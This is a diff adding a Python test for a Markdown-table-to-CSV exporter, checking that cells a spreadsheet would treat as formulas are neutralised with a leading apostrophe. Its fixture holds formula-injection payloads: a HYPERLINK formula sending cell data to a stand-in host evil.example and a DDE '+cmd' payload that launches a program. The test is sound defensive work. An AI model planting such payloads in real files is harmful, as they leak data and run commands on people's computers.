@@ -221,6 +221,23 @@ def test_table_csv_quotes_and_pads():
     assert table_csv(t) == '\ufeffa,b\r\n"x, ""y""",\r\n'.encode()
 
 
+def test_table_csv_runs_no_formula_in_a_spreadsheet():
+    """A table cell a pull request wrote as `=HYPERLINK(…)` or `+cmd|' /C calc'!A0` was
+    written to the CSV as is: a technician opening it in Excel or WPS ran it. A cell a
+    spreadsheet takes for a formula now opens with `'` (shown as text); numbers and a
+    lone dash stay values."""
+    md = ("| 代码 | 处理 |\n|---|---|\n"
+          '| =HYPERLINK("http://evil.example/?"&A1,"点击") | +cmd\\|\' /C calc\'!A0 |\n'
+          "| -2+3 | @SUM(1+1) |\n| -5 | +3.5 |\n| -1,200 | -20% |\n| - | -5~0 ℃ |\n"
+          "| ＝1+1 | a=1 |\n| =标题 | 正常 |\n")
+    (_, t), = doc_tables(md, "d.md")
+    rows = list(csv.reader(io.StringIO(table_csv(t).decode("utf-8-sig"))))
+    assert rows == [["代码", "处理"],
+                    ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "'+cmd|' /C calc'!A0"],
+                    ["'-2+3", "'@SUM(1+1)"], ["-5", "+3.5"], ["-1,200", "-20%"],
+                    ["-", "'-5~0 ℃"], ["＝1+1", "a=1"], ["'=标题", "正常"]]
+
+
 def test_duplicate_and_unsafe_csv_names(tmp_path):
     one = doc_tables("<!-- csv: same.csv -->\n| a |\n|---|\n| 1 |\n", "x/a.md")
     two = doc_tables("<!-- csv: Same.csv -->\n| b |\n|---|\n| 2 |\n", "y/b.md")
